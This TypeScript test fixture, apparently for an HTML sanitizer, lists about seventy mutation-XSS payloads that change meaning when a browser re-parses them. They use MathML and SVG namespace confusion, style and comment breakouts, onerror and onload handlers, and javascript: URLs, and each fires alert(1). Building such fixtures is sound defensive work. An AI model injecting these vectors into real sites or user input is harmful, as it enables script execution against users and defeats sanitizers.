import { lines } from './lines.fixture.ts';

/** Text that changes its meaning when a browser parses and serialises it again. */
export const mutation = lines(String.raw`
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><table id="</style>"><img src onerror=alert(1)">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>
<svg><p><style><g title="</style><img src onerror=alert(1)>">
<svg><desc><svg><style><a title="</style><img src onerror=alert(1)>">
<svg><title><style><a title="</style></title></svg><img src onerror=alert(1)>">
<svg><foreignObject><style><a title="</style><img src onerror=alert(1)>"></foreignObject></svg>
<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=alert(1)>">
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<math><mi><style><!--</style><img title="--><img src=x onerror=alert(1)>"></mi></math>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math><brute href="javascript:alert(1)">x</brute></math>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>
<math><a xlink:href="javascript:alert(1)"><mi>x</mi></a></math>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>
<svg><set attributeName=onmouseover to=alert(1)></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:alert(1)'/></svg>#x"></svg>
<svg><image href=https://evil.example/a.png></svg>
<svg><feImage xlink:href=https://evil.example/a.png /></svg>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script xlink:href=data:,alert(1) /></svg>
<svg><script>&#97;lert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><discard onbegin=alert(1)>
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<svg><foreignobject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignobject></svg>
<svg><textarea><img src=x onerror=alert(1)></textarea></svg>
<svg><xmp><img src=x onerror=alert(1)></xmp></svg>
<svg><noscript><img title="</noscript><img src=x onerror=alert(1)>"></noscript></svg>
<svg><template><img src=x onerror=alert(1)></template></svg>
<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>
<math><![CDATA[<p title="]]><img src=x onerror=alert(1)>">]]></math>
<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">
<math><mi><mglyph><img src onerror=alert(1)></mglyph></mi></math>
<math><mtext></math><img src=x onerror=alert(1)>
<math><semantics><mi>x</mi><annotation-xml encoding="application/xhtml+xml"><img src=x onerror=alert(1)>
<p><math><mrow></p><img src=x onerror=alert(1)></mrow></math>
<table><math><mtr><td><mi onclick=alert(1)>x</mi></td></mtr></math></table>
<math><mrow><mtext>&lt;img src=x onerror=alert(1)&gt;</mtext></mrow></math>
<math><mi>&#x3C;script>alert(1)&#x3C;/script></mi></math>
<math><mspace style="position:fixed" width="99999px" onfocus=alert(1) tabindex=0 autofocus>
<math><mtext><br><p><img src=x onerror=alert(1)></math>
<math><mrow><font color=red><img src=x onerror=alert(1)></font></mrow></math>
<math><mi><mi><mi><script>alert(1)</script></mi></math><mi onclick=alert(1)>x</mi>
<math display="block" href="javascript:alert(1)" xlink:href="javascript:alert(1)"><mstyle mathcolor="x" background="javascript:alert(1)"><mi>x</mi></mstyle></math>
<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<html xmlns:ng="http://angularjs.org"><ng:include src="'https://evil.example/'">
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<pre>&lt;img src=x onerror=alert(1)&gt;</pre>
<div>&lt;script&gt;alert(1)&lt;/script&gt;</div>
<p>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p>
<table><caption><svg><title><table><td><style></caption></table><img src=x onerror=alert(1)>
<table><colgroup><template><style></colgroup><img src=x onerror=alert(1)>
<p><svg><p><img src=x onerror=alert(1)></svg>
<b><a href=/1><b><a href=/2><p><img src=x onerror=alert(1)></b></a>
<a href=/1><table><a href=/2><img src=x onerror=alert(1)></table></a>
<font color=x><svg></font><img src=x onerror=alert(1)>
<form id=a><div></form><form id=b><input form=a onfocus=alert(1) autofocus></form>
`);
